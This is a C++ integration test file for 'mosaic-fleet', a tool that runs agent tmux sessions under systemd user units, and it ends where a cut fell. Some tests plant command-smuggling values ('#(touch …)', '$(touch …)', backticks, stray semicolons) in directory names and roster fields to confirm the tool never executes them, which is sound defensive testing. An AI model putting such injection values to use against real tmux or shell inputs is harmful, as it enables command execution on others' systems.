// End to end against a real `systemd --user` and real tmux (see sandbox.h). Every test also
// checks, in TearDown, that the sentinel on the default tmux socket kept its server and
// session, and that every tmux command line anyone ran named a non-default socket.
#include <fcntl.h>
#include <fmt/format.h>
#include <gmock/gmock.h>
#include <gtest/gtest.h>
#include <signal.h>
#include <sys/file.h>
#include <unistd.h>

#include <algorithm>
#include <chrono>
#include <cstdlib>
#include <filesystem>
#include <fstream>
#include <functional>
#include <iostream>
#include <nlohmann/json.hpp>
#include <sstream>
#include <thread>

#include "fleet_fixture.h"

namespace mosaic::integration {
namespace {

using testing::HasSubstr;
using testing::Not;

TEST_F(FleetIntegration, ApplyFromNothingConvergesAndTheNextPlanIsEmpty) {
  Converge();
  EXPECT_EQ(sandbox_.UnitActive("mosaic-tmux-holder.service"), "active");
  EXPECT_EQ(sandbox_.UnitEnabled("mosaic-tmux-holder.service"), "enabled");
  for (std::string agent : {"a", "a0"}) {
    EXPECT_EQ(sandbox_.UnitActive("mosaic-agent@" + agent + ".service"), "active");
    EXPECT_EQ(sandbox_.UnitEnabled("mosaic-agent@" + agent + ".service"), "enabled");
  }
  std::map<std::string, long> sessions = sandbox_.Sessions(kSocket);
  EXPECT_EQ(sessions.size(), 3u);
  EXPECT_TRUE(sessions.count("_holder") && sessions.count("a") && sessions.count("a0"));
  EXPECT_TRUE(PlanIsEmpty());
  RunResult again = Apply();
  EXPECT_EQ(again.code, 0);
  EXPECT_THAT(again.out, HasSubstr("No changes. The fleet matches the roster."));
  // The log is what TearDown checks; it must not be vacuous.
  EXPECT_THAT(sandbox_.TmuxLog(), testing::Contains(HasSubstr("-L itest -N list-panes -a")));
}

TEST_F(FleetIntegration, GeneratedUnitsPassSystemdAnalyzeVerify) {
  Converge();
  std::string units = sandbox_.Config() + "/systemd/user/";
  // The enablement link names a real instance of the template.
  RunResult r =
      sandbox_.Exec({"systemd-analyze", "--user", "verify", units + "mosaic-tmux-holder.service",
                     units + "default.target.wants/mosaic-agent@a.service"});
  EXPECT_EQ(r.code, 0) << r.err;
  EXPECT_EQ(r.err, "");
}

TEST_F(FleetIntegration, PlanObservesAHandMadeFleet) {
  Converge();
  sandbox_.Tmux(kSocket, {"kill-session", "-t", "=a0"});
  sandbox_.Tmux(kSocket, {"new-session", "-d", "-s", "scratch", "--", "sleep", "1000"});
  sandbox_.Exec({"systemctl", "--user", "disable", "mosaic-agent@a.service"});
  sandbox_.WriteFile(sandbox_.EnvFile("a"),
                     sandbox_.ReadFile(sandbox_.EnvFile("a")) + "API_TOKEN=secret-value\n");
  RunResult r = sandbox_.Fleet({"plan", "--json", "--detailed-exitcode"});
  ASSERT_EQ(r.code, 2) << r.err;
  nlohmann::json plan = nlohmann::json::parse(r.out);
  std::map<std::string, std::string> actions;
  for (const auto& c : plan["resource_changes"]) actions[c["address"]] = c["action"];
  EXPECT_EQ(actions,
            (std::map<std::string, std::string>{{"agent.a", "replace"}, {"agent.a0", "create"}}));
  bool scratch_noted = false;
  for (const auto& n : plan["notes"])
    scratch_noted =
        scratch_noted || (n["kind"] == "unmanaged-session" && n["subject"] == "scratch");
  EXPECT_TRUE(scratch_noted);
  EXPECT_THAT(r.out, Not(HasSubstr("secret-value")));
  // Observation is cheap: one tmux process per plan, whatever the fleet.
  size_t before = sandbox_.TmuxLog().size();
  sandbox_.Fleet({"plan"});
  EXPECT_EQ(sandbox_.TmuxLog().size() - before, 1u);
}

TEST_F(FleetIntegration, RestartingOneAgentKeepsTheServerAndEverySibling) {
  Converge();
  long server = sandbox_.ServerPid(kSocket);
  std::map<std::string, long> before = sandbox_.Sessions(kSocket);
  ASSERT_EQ(sandbox_.Exec({"systemctl", "--user", "restart", "mosaic-agent@a.service"}).code, 0);
  std::map<std::string, long> after = sandbox_.Sessions(kSocket);
  EXPECT_EQ(sandbox_.ServerPid(kSocket), server);
  EXPECT_EQ(after["a0"], before["a0"]);
  EXPECT_EQ(after["_holder"], before["_holder"]);
  EXPECT_NE(after["a"], before["a"]);
  EXPECT_TRUE(PlanIsEmpty());
}

TEST_F(FleetIntegration, RemovingAnAgentNeverTouchesItsPrefixSibling) {
  // User data the tool must never modify: heartbeats in fleet/run/, other rosters.
  std::string fleet = sandbox_.Config() + "/mosaic/fleet/";
  sandbox_.WriteFile(fleet + "run/a.hb", "1700000000\n");
  sandbox_.WriteFile(fleet + "run/notes.txt", "mine\n");
  sandbox_.WriteFile(fleet + "staging.yaml", "# my other roster\nversion: 1\nagents: []\n");
  Converge(
      "version: 1\ntmux: {socket_name: itest}\nagents:\n  - {name: a, runtime: pi}\n  - {name: a0, "
      "runtime: pi}\n");
  long a0 = sandbox_.Sessions(kSocket)["a0"];
  sandbox_.Tmux(kSocket, {"new-session", "-d", "-s", "scratch", "--", "sleep", "1000"});
  std::string env_before = sandbox_.ReadFile(sandbox_.EnvFile("a"));
  WriteRoster("version: 1\ntmux: {socket_name: itest}\nagents:\n  - {name: a0, runtime: pi}\n");
  RunResult r = Apply();
  ASSERT_EQ(r.code, 0) << r.out << r.err;
  std::map<std::string, long> sessions = sandbox_.Sessions(kSocket);
  EXPECT_FALSE(sessions.count("a"));
  EXPECT_EQ(sessions["a0"], a0);
  EXPECT_TRUE(sessions.count("scratch")) << "an unmanaged session must stay";
  EXPECT_EQ(sandbox_.UnitActive("mosaic-agent@a.service"), "inactive");
  EXPECT_NE(sandbox_.UnitEnabled("mosaic-agent@a.service"), "enabled");
  EXPECT_EQ(sandbox_.ReadFile(sandbox_.EnvFile("a")), env_before)
      << "the removed agent's env file is kept";
  EXPECT_EQ(sandbox_.ReadFile(fleet + "run/a.hb"), "1700000000\n");
  EXPECT_EQ(sandbox_.ReadFile(fleet + "run/notes.txt"), "mine\n");
  EXPECT_EQ(sandbox_.ReadFile(fleet + "staging.yaml"),
            "# my other roster\nversion: 1\nagents: []\n");
  EXPECT_THAT(r.out, HasSubstr("staging.yaml: user data: never modified or deleted"));
  EXPECT_TRUE(PlanIsEmpty());
}

TEST_F(FleetIntegration, NoRosterValueReachesATmuxFormat) {
  // tmux expands formats in a start directory; #(…) there would run a command.
  std::string marker = sandbox_.root() + "/format-was-expanded";
  std::string dir = sandbox_.Home() + "/odd#(touch " + marker + ")";
  std::filesystem::create_directories(dir);
  Converge(
      "version: 1\ntmux: {socket_name: itest}\nagents:\n  - name: a\n    runtime: pi\n"
      "    working_directory: \"" +
      dir + "\"\n    model_hint: \"#{pid} $(touch " + marker + ")\"\n");
  EXPECT_FALSE(sandbox_.Exists(marker));
  // `session exec` changes directory a moment after tmux reports the session: wait for it.
  EXPECT_TRUE(WaitFor([&] { return PaneValue("a", "#{pane_current_path}") == dir; }))
      << PaneValue("a", "#{pane_current_path}");
  EXPECT_TRUE(PlanIsEmpty());
}

TEST_F(FleetIntegration, HostileValuesReachTmuxLiterallyAndTheFleetConverges) {
  // tmux reads an argument ending in ';' as a command separator: a working directory like
  // that was recorded cut short, and the agent was restarted on every apply.
  for (std::string name : {"semi;", "back\\;", ";", "two;;", "a;b", "fmt #{pid} $(x) `y`;"}) {
    std::string dir = sandbox_.Home() + "/" + name;
    std::filesystem::create_directories(dir);
    std::string roster =
        "version: 1\ntmux: {socket_name: itest}\nagents:\n  - name: a\n"
        "    runtime: pi\n    working_directory: '" +
        dir + "'\n";
    Converge(roster);
    EXPECT_EQ(PaneValue("a", "#{@mosaic-workdir}"), dir) << name;
    EXPECT_TRUE(WaitFor([&] { return PaneValue("a", "#{pane_current_path}") == dir; })) << name;
    EXPECT_TRUE(PlanIsEmpty()) << name;
    RunResult again = Apply();
    EXPECT_THAT(again.out, HasSubstr("No changes.")) << name;
  }
}

TEST_F(FleetIntegration, ASessionKilledBehindTheToolsBackIsRecreated) {
  Converge();
  sandbox_.Tmux(kSocket, {"kill-session", "-t", "=a"});
  ASSERT_FALSE(sandbox_.Sessions(kSocket).count("a"));
  RunResult r = Apply();
  ASSERT_EQ(r.code, 0) << r.err;
  EXPECT_TRUE(sandbox_.Sessions(kSocket).count("a"));
  EXPECT_TRUE(PlanIsEmpty());
}

TEST_F(FleetIntegration, RuntimeChangeReplacesTheSessionAndKeepsUserEnvKeys) {
  Converge();
  const std::string user_lines = "# my notes: keep\nAPI_TOKEN='abc def'\n";
  sandbox_.WriteFile(sandbox_.EnvFile("a"), sandbox_.ReadFile(sandbox_.EnvFile("a")) + user_lines);
  ASSERT_EQ(Apply().code, 0);  // the user key is env drift: a is replaced once
  long a = sandbox_.Sessions(kSocket)["a"], a0 = sandbox_.Sessions(kSocket)["a0"];
  WriteRoster(std::string(kRoster).replace(std::string(kRoster).find("{name: a, runtime: claude}"),
                                           26, "{name: a, runtime: codex}"));
  RunResult plan = sandbox_.Fleet({"plan"});
  EXPECT_THAT(plan.out, HasSubstr("runtime claude → codex forces replacement"));
  RunResult r = Apply();
  ASSERT_EQ(r.code, 0) << r.err;
  EXPECT_NE(sandbox_.Sessions(kSocket)["a"], a);
  EXPECT_EQ(sandbox_.Sessions(kSocket)["a0"], a0);
  std::string env = sandbox_.ReadFile(sandbox_.EnvFile("a"));
  EXPECT_THAT(env, HasSubstr("MOSAIC_AGENT_RUNTIME=\"codex\""));
  EXPECT_THAT(env, HasSubstr(user_lines));
  EXPECT_TRUE(PlanIsEmpty());
}

TEST_F(FleetIntegration, DryRunChangesNothing) {
  WriteRoster(kRoster);
  std::string before = Snapshot();
  RunResult r = sandbox_.Fleet({"apply"});
  EXPECT_EQ(r.code, 0);
  EXPECT_THAT(r.err, HasSubstr("dry run: nothing was changed"));
  EXPECT_EQ(Snapshot(), before);
  // The killed session stays gone (systemd does not restart it): only the dry run could
  // change the world here.
  sandbox_.WriteFile(sandbox_.Config() + "/systemd/user/mosaic-agent@.service.d/test.conf",
                     "[Service]\nRestart=no\n");
  Converge();
  sandbox_.Tmux(kSocket, {"kill-session", "-t", "=a"});
  ASSERT_TRUE(WaitFor([&] { return sandbox_.UnitActive("mosaic-agent@a.service") == "failed"; }));
  WriteRoster("version: 1\ntmux: {socket_name: itest}\nagents:\n  - {name: a0, runtime: claude}\n");
  before = Snapshot();
  EXPECT_EQ(sandbox_.Fleet({"apply", "--detailed-exitcode"}).code, 2);
  EXPECT_EQ(Snapshot(), before);
}

TEST_F(FleetIntegration, ABrokenRosterIsALocatedErrorAndChangesNothing) {
  Converge();
  WriteRoster("version: 1\ntmux: {socket_name: itest}\nagents:\n  - {name: 'a:1', runtime: pi}\n");
  std::string before = Snapshot();
  RunResult r = Apply();
  EXPECT_EQ(r.code, 1);
  EXPECT_THAT(r.err, HasSubstr("roster.yaml:4:12: error: agents[0].name:"));
  EXPECT_THAT(r.err, HasSubstr("nothing was changed"));
  EXPECT_EQ(Snapshot(), before);
}

TEST_F(FleetIntegration, WithoutAUserManagerItSaysSoAndChangesNothing) {
  WriteRoster(kRoster);
  std::string before = Snapshot();
  for (std::vector<std::string> args : {std::vector<std::string>{"plan"}, {"apply", "--yes"}}) {
    RunResult r = sandbox_.Fleet(args, {"XDG_RUNTIME_DIR", "DBUS_SESSION_BUS_ADDRESS"});
    EXPECT_EQ(r.code, 1) << args[0];
    EXPECT_THAT(r.err, HasSubstr("no systemd user manager is reachable")) << args[0];
  }
  EXPECT_EQ(Snapshot(), before);
  // validate needs no manager at all.
  EXPECT_EQ(sandbox_.Fleet({"validate"}, {"XDG_RUNTIME_DIR", "DBUS_SESSION_BUS_ADDRESS"}).code, 0);
}

TEST_F(FleetIntegration, SessionStartNeverStartsATmuxServer) {
  Converge();
  ASSERT_EQ(sandbox_.Exec({"systemctl", "--user", "stop", "mosaic-tmux-holder.service"}).code, 0);
  EXPECT_EQ(sandbox_.ServerPid(kSocket), 0);
  RunResult r = sandbox_.Fleet({"session", "start", "a"});
  EXPECT_EQ(r.code, 1);
  EXPECT_THAT(r.err, HasSubstr("is not running; start mosaic-tmux-holder.service first"));
  EXPECT_EQ(sandbox_.ServerPid(kSocket), 0);
  ASSERT_EQ(Apply().code, 0);  // apply starts the holder first, then the agents
  EXPECT_TRUE(PlanIsEmpty());
}

TEST_F(FleetIntegration, SigkillDuringApplyThenApplyConvergesAndLosesNothing) {
  Converge();
  const std::string user_line = "KEEP_ME=1\n";
  sandbox_.WriteFile(sandbox_.EnvFile("a"), sandbox_.ReadFile(sandbox_.EnvFile("a")) + user_line);
  const std::string rosters[2] = {
      "version: 1\ntmux: {socket_name: itest}\nagents:\n  - {name: a, runtime: codex}\n  - {name: "
      "b, runtime: pi}\n",
      kRoster};
  int round = 0;
  for (int delay_ms : {0, 15, 40, 80, 150, 300}) {
    WriteRoster(rosters[round++ % 2]);
    RunResult r = KillApplyThenApply(delay_ms);
    ASSERT_EQ(r.code, 0) << "after a kill at " << delay_ms << " ms: " << r.out << r.err;
    EXPECT_TRUE(PlanIsEmpty()) << "after a kill at " << delay_ms << " ms";
    EXPECT_THAT(sandbox_.ReadFile(sandbox_.EnvFile("a")), HasSubstr(user_line));
  }
}

TEST_F(FleetIntegration, AnApplyStoppedBeforeItsDaemonReloadIsFinishedByTheNext) {
  // The state a SIGKILL between writing a unit file and daemon-reload leaves: the file on
  // disk is current, the manager runs an older copy (here one whose ExecStart is broken, as
  // after a binary move). The next plan must see it and reload.
  Converge();
  const std::string unit = sandbox_.Config() + "/systemd/user/mosaic-agent@.service";
  const std::string current = sandbox_.ReadFile(unit);
  std::string broken = current;
  for (size_t at = broken.find("ExecStart="); at != std::string::npos;
       at = broken.find("ExecStart=", at + 1))
    broken.insert(at + 10, "/nonexistent/old-binary-path ");
  sandbox_.WriteFile(unit, broken);
  ASSERT_EQ(sandbox_.Exec({"systemctl", "--user", "daemon-reload"}).code, 0);
  std::this_thread::sleep_for(std::chrono::milliseconds(20));  // a later mtime than the load
  sandbox_.WriteFile(unit, current);
  RunResult plan = sandbox_.Fleet({"plan", "--detailed-exitcode"});
  EXPECT_EQ(plan.code, 2) << plan.out << plan.err;
  EXPECT_THAT(plan.out, HasSubstr("~ unit_file.mosaic-agent@.service"));
  EXPECT_THAT(plan.out, HasSubstr("stopped before its daemon-reload"));
  ASSERT_EQ(Apply().code, 0);
  EXPECT_TRUE(PlanIsEmpty());
  RunResult restart = sandbox_.Exec({"systemctl", "--user", "restart", "mosaic-agent@a.service"});
  EXPECT_EQ(restart.code, 0) << restart.err;
}

TEST_F(FleetIntegration, AStoppedTmuxServerIsAnErrorNamingItNeverAHang) {
  Converge();
  pid_t server = static_cast<pid_t>(sandbox_.ServerPid(kSocket));
  ASSERT_GT(server, 0);
  ASSERT_EQ(::kill(server, SIGSTOP), 0);  // a wedged server, in real life
  for (std::vector<std::string> args :
       {std::vector<std::string>{"plan"}, {"status"}, {"apply", "--yes"}}) {
    args.insert(args.end(), {"--timeout", "1"});
    auto started = std::chrono::steady_clock::now();
    RunResult r = sandbox_.Fleet(args);
    double seconds =
        std::chrono::duration<double>(std::chrono::steady_clock::now() - started).count();
    EXPECT_EQ(r.code, 1) << args[0];
    EXPECT_THAT(r.err, HasSubstr("/tmux-0/itest did not answer within 1 s")) << args[0];
    EXPECT_LT(seconds, 20) << args[0] << " must give up, not hang";
  }
  // The failed apply released its lock: the next one waits for tmux, not for the lock.
  RunResult again = sandbox_.Fleet({"apply", "--yes", "--timeout", "1", "--lock-timeout", "0.1"});
  EXPECT_THAT(again.err, Not(HasSubstr("another mosaic-fleet apply is running")));
  ASSERT_EQ(::kill(server, SIGCONT), 0);
  EXPECT_TRUE(PlanIsEmpty());
}

TEST_F(FleetIntegration, AFrozenUserManagerIsAnErrorNamingItNeverAHang) {
  Converge();
  ASSERT_EQ(::kill(sandbox_.ManagerPid(), SIGSTOP), 0);
  auto started = std::chrono::steady_clock::now();
  RunResult r = sandbox_.Fleet({"plan", "--timeout", "1"});
  double seconds =
      std::chrono::duration<double>(std::chrono::steady_clock::now() - started).count();
  ::kill(sandbox_.ManagerPid(), SIGCONT);
  EXPECT_EQ(r.code, 1);
  EXPECT_THAT(r.err, HasSubstr("the systemd user manager did not answer in time"));
  EXPECT_LT(seconds, 20) << "plan must give up, not hang";
  EXPECT_TRUE(PlanIsEmpty());
}

TEST_F(FleetIntegration, AShellWithAnotherTmuxTmpdirStillSeesTheFleetTheUnitsMade) {
  // The units' tmux uses the manager's TMUX_TMPDIR; a shell with another one used to see no
  // sessions at all, restart every healthy agent on every apply and never converge.
  const std::map<std::string, std::string> other = {{"TMUX_TMPDIR", sandbox_.root() + "/other"}};
  std::filesystem::create_directories(sandbox_.root() + "/other");
  WriteRoster(kRoster);
  RunResult first = sandbox_.Fleet({"apply", "--yes"}, {}, other);
  ASSERT_EQ(first.code, 0) << first.err;
  EXPECT_THAT(first.err, HasSubstr("The fleet has converged"));
  EXPECT_THAT(first.err, HasSubstr("note: this shell's TMUX_TMPDIR"));
  long a = sandbox_.Sessions(kSocket)["a"];
  RunResult second = sandbox_.Fleet({"apply", "--yes"}, {}, other);
  EXPECT_EQ(second.code, 0) << second.err;
  EXPECT_THAT(second.out, HasSubstr("No changes."));
  EXPECT_EQ(sandbox_.Sessions(kSocket)["a"], a) << "a healthy agent must not be restarted";
  EXPECT_TRUE(PlanIsEmpty());
  EXPECT_FALSE(std::filesystem::exists(sandbox_.root() + "/other/tmux-0/itest"));
}

TEST_F(FleetIntegration, AnAgentEnvFileMovingItsTmuxSocketIsALocatedError) {
  Converge();
  sandbox_.WriteFile(sandbox_.EnvFile("a"), sandbox_.ReadFile(sandbox_.EnvFile("a")) +
                                                "TMUX_TMPDIR=" + sandbox_.root() + "/other\n");
  std::string before = Snapshot();
  RunResult r = Apply();
  EXPECT_EQ(r.code, 1);
  EXPECT_THAT(r.out, HasSubstr(sandbox_.EnvFile("a") + ":"));
  EXPECT_THAT(r.out, HasSubstr("TMUX_TMPDIR here differs from the user manager's"));
  EXPECT_EQ(Snapshot(), before);
}

TEST_F(FleetIntegration, ARemovedAgentsProgramStopsEvenWhenItIgnoresHangups) {
  // Killing a session only hangs up on its program; one that ignores SIGHUP and SIGTERM
  // used to outlive its agent, invisible to plan and status. It runs in its agent unit's
  // cgroup now, so stopping the unit ends it. (The drop-in shortens the unit's 10 s grace
  // before SIGKILL, for the test's sake.)
  sandbox_.WriteFile(sandbox_.Config() + "/systemd/user/mosaic-agent@.service.d/test.conf",
                     "[Service]\nTimeoutStopSec=1s\n");
  const std::string pidfile = sandbox_.root() + "/stubborn.pid";
  Converge(
      "version: 1\ntmux: {socket_name: itest}\nruntimes:\n  stubborn:\n    command: "
      "'trap \"\" HUP TERM; echo $$ > " +
      pidfile +
      "; exec sleep 100000'\n"
      "agents:\n  - {name: a, runtime: stubborn}\n  - {name: a0, runtime: pi}\n");
  ASSERT_TRUE(WaitFor([&] { return !sandbox_.ReadFile(pidfile).empty(); }));
  const std::string proc = "/proc/" + std::to_string(std::stol(sandbox_.ReadFile(pidfile)));
  EXPECT_THAT(sandbox_.ReadFile(proc + "/cgroup"), HasSubstr("/mosaic-agent@a.service"));
  long a0 = sandbox_.Sessions(kSocket)["a0"];
  WriteRoster("version: 1\ntmux: {socket_name: itest}\nagents:\n  - {name: a0, runtime: pi}\n");
  RunResult r = Apply();
  ASSERT_EQ(r.code, 0) << r.err;
  EXPECT_TRUE(WaitFor([&] { return !std::filesystem::exists(proc); }))
      << "the removed agent's program is still running";
  EXPECT_EQ(sandbox_.Sessions(kSocket)["a0"], a0);
}

TEST_F(FleetIntegration, APlainCommandIsItsPanesOwnProgramFoundOnTheEnvFilesPath) {
  // Plain words run as the shell would run them, without one: the pane's program is the
  // agent itself, in its unit's cgroup, found on the PATH of its env file (a user key). A
  // command line only a shell can run still gets one.
  const std::string bin = sandbox_.root() + "/agent-bin";
  sandbox_.WriteFile(bin + "/my-agent", "#!/bin/sh\nexec sleep 100000\n");
  std::filesystem::permissions(bin + "/my-agent", std::filesystem::perms::owner_all);
  // A script without a #! line, named by its path: the shell runs it with /bin/sh.
  sandbox_.WriteFile(bin + "/no-shebang", "exec sleep 100001\n");
  std::filesystem::permissions(bin + "/no-shebang", std::filesystem::perms::owner_all);
  for (const char* name : {"a", "b"})
    sandbox_.WriteFile(sandbox_.EnvFile(name), "PATH=\"" + bin + ":/usr/bin:/bin\"\n");
  const std::string work = sandbox_.root() + "/work";
  sandbox_.WriteFile(work + "/keep", "");
  Converge(
      "version: 1\ntmux: {socket_name: itest}\nruntimes:\n  plain: {command: my-agent --x=1}\n"
      "  shell: {command: 'my-agent --x=1; exit 3'}\n  script: {command: " +
      bin +
      "/no-shebang}\n"
      "agents:\n  - {name: a, runtime: plain, working_directory: " +
      work + "}\n  - {name: b, runtime: shell, working_directory: " + work +
      "}\n  - {name: c, runtime: script}\n");
  auto cmdline = [&](const std::string& session) {
    std::string proc = "/proc/" + std::to_string(sandbox_.Sessions(kSocket)[session]);
    std::string line = sandbox_.ReadFile(proc + "/cmdline");
    std::replace(line.begin(), line.end(), '\0', ' ');
    return line;
  };
  // The stand-in is a script: its shell becomes `sleep` once it has run it.
  ASSERT_TRUE(WaitFor([&] { return cmdline("a") == "sleep 100000 "; })) << cmdline("a");
  std::string proc = "/proc/" + std::to_string(sandbox_.Sessions(kSocket)["a"]);
  EXPECT_THAT(sandbox_.ReadFile(proc + "/cgroup"), HasSubstr("/mosaic-agent@a.service"));
  // (Each pane's program is `session exec` until it has become the agent: waited for.)
  EXPECT_TRUE(WaitFor([&] { return cmdline("b") == "/bin/sh -c -- my-agent --x=1; exit 3 "; }))
      << cmdline("b");
  EXPECT_TRUE(WaitFor([&] { return cmdline("c") == "sleep 100001 "; })) << cmdline("c");
  // Either way, PWD is where the program starts (the agent's working directory), as a shell
  // sets it — not the directory `session start` ran in.
  for (const char* name : {"a", "b"}) {
    const std::string nul(1, '\0');
    std::string environ =
        nul +
        sandbox_.ReadFile("/proc/" + std::to_string(sandbox_.Sessions(kSocket)[name]) + "/environ");
    EXPECT_THAT(environ, HasSubstr(nul + "PWD=" + work + nul)) << name;
  }
  EXPECT_TRUE(PlanIsEmpty());
}

TEST_F(FleetIntegration, SessionExecEndsAsAShellWouldWhenItCannotRunTheProgram) {
  // What an agent's unit ends with when its program is missing or cannot be run: a shell's 127
  // and 126, and why — the unit's status and the pane's last lines say it.
  const std::string dir = sandbox_.root() + "/exec";
  sandbox_.WriteFile(dir + "/not-executable", "#!/bin/sh\n");  // no execute bit
  const std::string env = dir + "/x.env";
  auto run = [&](const std::string& command) {
    sandbox_.WriteFile(env, "MOSAIC_AGENT_NAME=x\nMOSAIC_AGENT_COMMAND=" + command + "\n");
    return sandbox_.Fleet({"session", "exec", "--env-file", env});
  };
  RunResult missing = run("no-such-program --flag");
  EXPECT_EQ(missing.code, 127) << missing.err;
  EXPECT_THAT(missing.err, HasSubstr("cannot run no-such-program: not found on its PATH"));
  RunResult by_path = run(dir + "/missing");
  EXPECT_EQ(by_path.code, 127) << by_path.err;
  EXPECT_THAT(by_path.err, HasSubstr(dir + "/missing: No such file or directory"));
  RunResult not_runnable = run(dir + "/not-executable");
  EXPECT_EQ(not_runnable.code, 126) << not_runnable.err;
  EXPECT_THAT(not_runnable.err, HasSubstr("Permission denied"));
}

TEST_F(FleetIntegration, ASessionStartedByHandJoinsItsUnitWhenTheUnitStarts) {
  // Started by hand (or by an older mosaic-fleet), a program runs in the holder's cgroup;
  // the unit that adopts its session takes it in, so stopping the unit stops it.
  Converge();
  ASSERT_EQ(sandbox_.Exec({"systemctl", "--user", "stop", "mosaic-agent@a.service"}).code, 0);
  RunResult by_hand = sandbox_.Fleet({"session", "start", "a"});
  ASSERT_EQ(by_hand.code, 0) << by_hand.err;
  long pane = sandbox_.Sessions(kSocket)["a"];
  std::string cgroup = "/proc/" + std::to_string(pane) + "/cgroup";
  ASSERT_TRUE(WaitFor([&] {
    return sandbox_.ReadFile(cgroup).find("mosaic-tmux-holder.service") != std::string::npos;
  }));
  ASSERT_EQ(Apply().code, 0);
  EXPECT_EQ(sandbox_.Sessions(kSocket)["a"], pane) << "adopted, not restarted";
  EXPECT_THAT(sandbox_.ReadFile(cgroup), HasSubstr("/mosaic-agent@a.service"));
  EXPECT_TRUE(PlanIsEmpty());
}

TEST_F(FleetIntegration, StatusColumnsStayAlignedForTheLongestNames) {
  const std::string longest(64, 'n');
  Converge("version: 1\ntmux: {socket_name: itest}\nagents:\n  - {name: " + longest +
           ", runtime: pi}\n  - {name: a, runtime: pi}\n");
  RunResult r = sandbox_.Fleet({"status"});
  EXPECT_EQ(r.code, 0) << r.out << r.err;
  std::vector<std::string> lines;
  std::stringstream out(r.out);
  for (std::string line; std::getline(out, line);) lines.push_back(line);
  ASSERT_GE(lines.size(), 4u);
  size_t column = lines[1].find("UNIT");
  ASSERT_NE(column, std::string::npos);
  for (size_t i = 2; i < lines.size() && !lines[i].empty(); ++i)
    EXPECT_EQ(lines[i].find("active"), column) << lines[i];
}

TEST_F(FleetIntegration, FourAppliesAtOnceAllExitCleanlyAndConverge) {
  WriteRoster(kRoster);
  std::vector<pid_t> pids;
  for (int i = 0; i < 4; ++i)
    pids.push_back(sandbox_.SpawnFleet({"apply", "--yes", "--lock-timeout", "30"}));
  for (pid_t pid : pids) {
    int code = Sandbox::Wait(pid);
    EXPECT_TRUE(code == 0 || code == 1) << code;
  }
  EXPECT_TRUE(PlanIsEmpty());
  EXPECT_TRUE(PlanIsEmpty());
}

TEST_F(FleetIntegration, AnApplyThatCannotGetTheLockNamesItsHolderAndChangesNothing) {
  WriteRoster(kRoster);
  // This test process holds the lock; the file still names an earlier apply, long gone.
  std::string lock_path = sandbox_.root() + "/run/mosaic-fleet.lock";
  int fd = ::open(lock_path.c_str(), O_RDWR | O_CREAT | O_CLOEXEC, 0600);
  ASSERT_GE(fd, 0);
  struct flock whole {};
  whole.l_type = F_WRLCK;
  whole.l_whence = SEEK_SET;
  ASSERT_EQ(::fcntl(fd, F_SETLK, &whole), 0);
  ASSERT_EQ(::write(fd, "pid 4242: an old apply\n", 23), 23);
  std::string before = Snapshot();
  RunResult r = Apply({"--lock-timeout", "0.2"});
  ::close(fd);
  EXPECT_EQ(r.code, 1);
  EXPECT_THAT(
      r.err, HasSubstr(fmt::format("another mosaic-fleet apply is running (pid {}: ", ::getpid())));
  EXPECT_THAT(r.err, HasSubstr("integration_tests"));
  EXPECT_THAT(r.err, Not(HasSubstr("4242")));
  EXPECT_EQ(Snapshot(), before);
}

TEST_F(FleetIntegration, AnApplyOfAnEarlierVersionStillExcludesThisOne) {
  // Earlier versions took an flock; the two must not run at once. Their pid is in the file.
  WriteRoster(kRoster);
  std::string lock_path = sandbox_.root() + "/run/mosaic-fleet.lock";
  int fd = ::open(lock_path.c_str(), O_RDWR | O_CREAT | O_CLOEXEC, 0600);
  ASSERT_GE(fd, 0);
  ASSERT_EQ(::flock(fd, LOCK_EX), 0);
  ASSERT_EQ(::write(fd, "pid 4242: mosaic-fleet apply\n", 29), 29);
  std::string before = Snapshot();
  RunResult r = Apply({"--lock-timeout", "0.2"});
  ::close(fd);
  EXPECT_EQ(r.code, 1);
  EXPECT_THAT(r.err, HasSubstr("another mosaic-fleet apply is running (pid 4242: mosaic-fleet "
                               "apply, an earlier mosaic-fleet)"));
  EXPECT_EQ(Snapshot(), before);
}

TEST_F(FleetIntegration, ASymlinkedLockFileIsRefusedWithAClearMessage) {
  WriteRoster(kRoster);
  std::string lock_path = sandbox_.root() + "/run/mosaic-fleet.lock";
  ASSERT_EQ(::symlink((sandbox_.root() + "/elsewhere").c_str(), lock_path.c_str()), 0);
  RunResult r = Apply();
  EXPECT_EQ(r.code, 1);
  EXPECT_THAT(r.err, HasSubstr("is a symbolic link, and mosaic-fleet never follows one"));
  EXPECT_FALSE(sandbox_.Exists(sandbox_.root() + "/elsewhere"));
}

TEST_F(FleetIntegration, ASavedPlanIsAppliedExactlyOrRefusedIfTheWorldChanged) {
  // Killed sessions stay gone (their units fail, systemd does not restart them): the world
  // changes only when the test changes it.
  sandbox_.WriteFile(sandbox_.Config() + "/systemd/user/mosaic-agent@.service.d/test.conf",
                     "[Service]\nRestart=no\n");
  WriteRoster(kRoster);
  std::string plan_file = sandbox_.root() + "/fleet.plan";
  RunResult saved = sandbox_.Fleet({"plan", "--out", plan_file});
  ASSERT_EQ(saved.code, 0) << saved.err;
  RunResult applied = sandbox_.Fleet({"apply", "--yes", plan_file});
  ASSERT_EQ(applied.code, 0) << applied.err;
  EXPECT_THAT(applied.err, HasSubstr("The fleet has converged"));

  // The world changes after the plan is made: the plan is refused and nothing happens.
  sandbox_.Tmux(kSocket, {"kill-session", "-t", "=a0"});
  ASSERT_EQ(sandbox_.Fleet({"plan", "--out", plan_file}).code, 0);
  sandbox_.Tmux(kSocket, {"kill-session", "-t", "=a"});
  ASSERT_TRUE(WaitFor([&] {
    return sandbox_.UnitActive("mosaic-agent@a.service") == "failed" &&
           sandbox_.UnitActive("mosaic-agent@a0.service") == "failed";
  }));
  std::string before = Snapshot();
  RunResult refused = sandbox_.Fleet({"apply", "--yes", plan_file});
  EXPECT_EQ(refused.code, 1);
  EXPECT_THAT(refused.err, HasSubstr("the fleet changed since this plan was made"));
  EXPECT_EQ(Snapshot(), before);

  // So is a plan whose roster changed.
  ASSERT_EQ(sandbox_.Fleet({"plan", "--out", plan_file}).code, 0);
  WriteRoster(std::string(kRoster) + "  - {name: b, runtime: pi}\n");
  RunResult stale = sandbox_.Fleet({"apply", "--yes", plan_file});
  EXPECT_EQ(stale.code, 1);
  EXPECT_THAT(stale.err, HasSubstr("changed since this plan was made"));
  EXPECT_EQ(sandbox_.Sessions(kSocket).count("b"), 0u);
}

TEST_F(FleetIntegration, AnEditedSavedPlanIsRefusedAndChangesNothing) {
  // The fingerprints are kept, so only re-deriving the plan can tell: the edits write
  // ~/.bashrc and a file outside every fleet directory, kill a session the user made, and
